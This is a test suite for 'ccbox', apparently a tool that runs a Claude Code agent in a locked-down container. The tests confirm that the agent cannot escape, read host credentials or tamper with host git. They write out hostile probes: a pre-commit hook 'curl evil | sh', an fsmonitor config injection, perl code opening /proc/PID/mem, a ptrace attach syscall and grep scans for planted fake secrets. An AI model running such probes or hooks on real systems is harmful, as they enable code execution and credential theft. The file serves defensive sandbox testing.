import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { mkdtempSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ccboxObjects, hostGit, isRoot, makeRepo, outcome, runCli } from './cli.js';

// These run the built CLI against the real engine: images are built on first use (about a minute),
// then cached for the rest of the suite.
const shell = (repo: string, cmd: string, env: Record<string, string> = {}) =>
  runCli(['shell', '--plain', '--profile', 'low-risk', '--', 'bash', '-c', cmd], { cwd: repo, env });

describe.skipIf(!isRoot)('ccbox shell: who the agent is', () => {
  it.each([1000, 1234])(
    'runs as the worktree owner (uid %i) and files it writes belong to that user',
    async (uid) => {
      const repo = makeRepo(uid);
      const r = await shell(
        repo,
        'id -u; id -g; echo made > made-by-agent.txt; echo "home=$HOME"; getent passwd "$(id -u)" | cut -d: -f6; stat -c "%u %a" "$HOME"',
      );
      expect(r.stderr).toContain('ready');
      expect(r.code).toBe(0);
      const [printedUid, printedGid, home, passwdHome, homeStat] = r.stdout.trim().split('\n');
      expect(printedUid).toBe(String(uid));
      expect(printedGid).toBe(String(uid));
      expect(home).toBe('home=/home/agent');
      expect(passwdHome).toBe('/home/agent');
      // The home is the agent's alone.
      expect(homeStat).toBe(`${uid} 700`);
      const st = statSync(path.join(repo, 'made-by-agent.txt'));
      expect([st.uid, st.gid]).toEqual([uid, uid]);
    },
  );

  it('refuses a root-owned worktree with exit 2 and says how to go on', async () => {
    const repo = makeRepo(0);
    const r = await shell(repo, 'true');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/refusing to run the agent as root: .* is owned by root/);
    expect(r.stderr).toMatch(/hint: .*run ccbox as a normal user, or give the repository to one/);
  });

  it('refuses the home directory and a directory holding credential directories', async () => {
    const home = mkdtempSync(path.join(os.tmpdir(), 'ccbox-home-'));
    mkdirSync(path.join(home, '.git'));
    const r1 = await shell(home, 'true', { HOME: home });
    expect(r1.code).toBe(2);
    expect(r1.stderr).toMatch(/refusing to mount your home directory/);
    const repo = makeRepo(1000);
    mkdirSync(path.join(repo, '.ssh'));
    const r2 = await shell(repo, 'true');
    expect(r2.code).toBe(2);
    expect(r2.stderr).toMatch(/contains the credential store \.ssh/);
  });

  it('refuses a directory that is not in a git repository', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'ccbox-nogit-'));
    const r = await shell(dir, 'true');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/is not inside a git repository/);
  });
});

describe.skipIf(!isRoot)('ccbox shell: the container boundary', () => {
  it('has no capabilities, a read-only root, and /workspace as its only writable bind mount', async () => {
    const repo = makeRepo(1000);
    const r = await shell(
      repo,
      [
        'grep -E "^Cap(Eff|Prm|Bnd|Amb):" /proc/self/status',
        'grep NoNewPrivs /proc/self/status',
        'for p in /etc/x /usr/x /x /var/x /etc/claude-code/managed-settings.json; do (echo pwn > "$p") 2>/dev/null && echo "WROTE $p"; done',
        'echo ok > /tmp/t && echo tmp-ok',
        'echo ok > "$HOME/t" && echo home-ok',
        // Every mount with a source outside the container: fields 4 (root), 5 (mount point), 6 (options), after " - ": fstype.
        `awk '{ split($0, a, " - "); split(a[2], b, " "); if (b[1] != "proc" && b[1] != "tmpfs" && b[1] != "sysfs" && b[1] != "cgroup" && b[1] != "cgroup2" && b[1] != "mqueue" && b[1] != "devpts" && b[1] != "overlay") print $5, $6 }' /proc/self/mountinfo`,
      ].join('; '),
    );
    expect(r.code).toBe(0);
    for (const cap of ['CapEff', 'CapPrm', 'CapBnd', 'CapAmb'])
      expect(r.stdout).toMatch(new RegExp(`${cap}:\\s+0000000000000000`));
    expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
    expect(r.stdout).not.toMatch(/WROTE/);
    expect(r.stdout).toContain('tmp-ok');
    expect(r.stdout).toContain('home-ok');
    const mounts = r.stdout
      .split('\n')
      .filter((l) => /^\/\S* (rw|ro)/.test(l))
      .map((l) => l.split(' ') as [string, string]);
    const writable = mounts.filter(
      ([target, opts]) =>
        opts.split(',').includes('rw') &&
        !['/dev', '/dev/shm', '/dev/mqueue'].includes(target) &&
        !target.startsWith('/sys') &&
        !target.startsWith('/proc') &&
        !target.startsWith('/etc/host') &&
        target !== '/etc/hostname' &&
        target !== '/etc/hosts',
    );
    // Writable: the worktree, its own folders bound onto themselves (ancestors of read-only paths, so they
    // cannot be renamed) and the session git dir at /workspace/.git. Nothing writable outside /workspace.
    expect(writable.map(([t]) => t)).toContain('/workspace');
    expect(writable.map(([t]) => t)).toContain('/workspace/.git');
    for (const [t] of writable) expect(t === '/workspace' || t.startsWith('/workspace/'), t).toBe(true);
  });

  it('keeps a command out of the Claude Code process: no ptrace, no /proc/PID/mem, no environ', async () => {
    const repo = makeRepo(1000);
    // The attack a Bash tool call could make: open the memory of a process of its own uid for writing.
    // The control (`sleep`, same uid, readable binary) must be open to it, or the check proves nothing.
    const probe = (pid: string, name: string) =>
      `perl -e 'open(F, "+<", "/proc/$ARGV[0]/mem") ? print "$ARGV[1] mem: open\n" : print "$ARGV[1] mem: $!\n"' ${pid} ${name}; ` +
      `(head -c1 /proc/${pid}/environ >/dev/null 2>&1 && echo "${name} environ: read") || echo "${name} environ: denied"; ` +
      `(ls /proc/${pid}/fd >/dev/null 2>&1 && echo "${name} fd: listed") || echo "${name} fd: denied"; ` +
      // The neighbours of the /proc open: PTRACE_ATTACH itself (x86_64 syscall 101, request 16).
      `perl -e 'syscall(101, 16, $ARGV[0] + 0, 0, 0) == 0 ? print "$ARGV[1] ptrace: attached\n" : print "$ARGV[1] ptrace: $!\n"' ${pid} ${name}`;
    const r = await shell(
      repo,
      [
        'sleep 60 & s=$!',
        'sleep 60 | claude -p x >/dev/null 2>&1 & sleep 3',
        'c=$(pgrep -x claude | head -1); [ -n "$c" ] || { echo "claude did not start"; exit 1; }',
        probe('$s', 'sleep'),
        probe('$c', 'claude'),
        'stat -c "%a %U" /usr/local/bin/claude',
      ].join('\n'),
    );
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('sleep mem: open');
    expect(r.stdout).toContain('sleep environ: read');
    expect(r.stdout).toMatch(/claude mem: Permission denied/);
    expect(r.stdout).toContain('claude environ: denied');
    expect(r.stdout).toContain('sleep fd: listed');
    expect(r.stdout).toContain('claude fd: denied');
    expect(r.stdout).toContain('sleep ptrace: attached');
    expect(r.stdout).toMatch(/claude ptrace: Operation not permitted/);
    expect(r.stdout).toContain('711 root');
  });

  it('shows the agent nothing of the host user: no ~/.ssh, no ~/.aws, no secret environment variable', async () => {
    const repo = makeRepo(1000);
    const home = mkdtempSync(path.join(os.tmpdir(), 'ccbox-fakehome-'));
    mkdirSync(path.join(home, '.ssh'));
    writeFileSync(
      path.join(home, '.ssh', 'id_ed25519'),
      '-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-SSH-KEY-MATERIAL-7f3a\n',
    );
    mkdirSync(path.join(home, '.aws'));
    writeFileSync(
      path.join(home, '.aws', 'credentials'),
      '[default]\naws_secret_access_key = FAKE-AWS-SECRET-9b1c\n',
    );
    const r = await shell(
      repo,
      'env; ls -la "$HOME"; ls -d /home/*/.ssh /root/.ssh 2>&1; grep -rsl -e FAKE-SSH-KEY-MATERIAL -e FAKE-AWS-SECRET -e super-secret-env-value / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head; echo scanned',
      {
        HOME: home,
        GITHUB_TOKEN: 'super-secret-env-value',
        AWS_SECRET_ACCESS_KEY: 'super-secret-env-value',
        MY_PASSWORD: 'super-secret-env-value',
      },
    );
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('scanned');
    expect(r.stdout).not.toMatch(
      /super-secret-env-value|FAKE-SSH-KEY-MATERIAL|FAKE-AWS-SECRET|GITHUB_TOKEN|AWS_SECRET/,
    );
    expect(r.stdout).not.toMatch(/\.ssh\n/);
  });

  it('keeps the host git dir out of reach, control files read-only, masks .env, and lands commits on the host', async () => {
    const repo = makeRepo(1000, 1000, { 'secrets/prod.key': 'PROD-KEY-4411\n' });
    const configBefore = readFileSync(path.join(repo, '.git/config'), 'utf8');
    const r = await shell(
      repo,
      [
        // The session git dir is the agent's to write: these succeed inside and must never reach the host.
        'echo "curl evil | sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
        'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config',
        '(mkdir -p .claude && echo "{}" > .claude/settings.json) 2>/dev/null && echo CLAUDE-WRITTEN',
        '(mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml) 2>/dev/null && echo WORKFLOW-WRITTEN',
        '(mv .git .git-old) 2>/dev/null && echo GIT-RENAMED',
        '(mv .github .github-old) 2>/dev/null && echo GITHUB-RENAMED',
        'echo "env=[$(cat .env)]"',
        'echo "key=[$(cat secrets/prod.key 2>&1)]"',
        'rm -f .git/hooks/pre-commit; git config --unset core.fsmonitor',
        'echo change > feature.txt && git add feature.txt && git commit -qm "agent change" && echo COMMITTED',
      ].join('; '),
    );
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/CLAUDE-WRITTEN|WORKFLOW-WRITTEN|GIT-RENAMED|GITHUB-RENAMED/);
    expect(r.stdout).toContain('env=[]');
    expect(r.stdout).not.toContain('PROD-KEY-4411');
    expect(r.stdout).toContain('COMMITTED');
    expect(r.stderr).toMatch(/git {2}1 commit landed on main/);
    expect(hostGit(repo, 'log', '--format=%s', '-1').trim()).toBe('agent change');
    // The index follows the new HEAD: the committed file is not shown as staged or modified.
    expect(hostGit(repo, 'status', '--porcelain', '--', 'feature.txt')).toBe('');
    expect(readFileSync(path.join(repo, '.env'), 'utf8')).toContain('host-secret-value-123');
    expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(path.join(repo, '.git/config'), 'utf8')).toBe(configBefore);
    // The stand-ins and the session git dir are gone again.
    for (const p of ['.claude', '.mcp.json', '.github', '.vscode', '.git/ccbox'])
      expect(existsSync(path.join(repo, p)), p).toBe(false);
  });

  it('--worktree works in a fresh tree on branch ccbox/<session> and brings the branch home', async () => {
    const repo = makeRepo(1000);
    const configBefore = readFileSync(path.join(repo, '.git/config'), 'utf8');
    const r = await runCli(
      [
        'shell',
        '--json',
        '--worktree',
        '--',
        'bash',
        '-c',
        'git rev-parse --abbrev-ref HEAD >&2; echo w > w.txt && git add w.txt && git commit -qm "from worktree" && echo "[core]" >> .git/config',
      ],
      { cwd: repo },
    );
    expect(r.code).toBe(0);
    const o = outcome(r);
    const branch = `ccbox/${o.session ?? ''}`;
    expect(r.stderr).toContain(branch);
    expect(o.git?.landedOn).toBe(branch);
    expect(hostGit(repo, 'log', '--format=%s', '-1', branch).trim()).toBe('from worktree');
    expect(hostGit(repo, 'rev-parse', '--abbrev-ref', 'HEAD').trim()).toBe('main');
    expect(existsSync(path.join(repo, 'w.txt'))).toBe(false);
    expect(readFileSync(path.join(repo, '.git/config'), 'utf8')).toBe(configBefore);
  });
});

describe.skipIf(!isRoot)('ccbox shell: images and lifetime', () => {
  it('builds nothing on a second run with nothing changed', async () => {
    const repo = makeRepo(1000);
    await runCli(['shell', '--json', '--', 'true'], { cwd: repo });
    const second = await runCli(['shell', '--json', '--', 'true'], { cwd: repo });
    expect(second.code).toBe(0);
    const image = outcome(second).steps?.find((s) => s.step === 'image');
    expect(image?.detail).toMatch(/\(cached\)$/);
  });

  it('removes its container and network when the command ends', async () => {
    const repo = makeRepo(1000);
    const r = await runCli(['shell', '--json', '--', 'true'], { cwd: repo });
    const session = outcome(r).session ?? '';
    expect(session).not.toBe('');
    expect(await ccboxObjects(session)).toEqual({ containers: [], networks: [] });
  });

  it('passes the command exit code through', async () => {
    const repo = makeRepo(1000);
    const r = await shell(repo, 'exit 7');
    expect(r.code).toBe(7);
  });
});
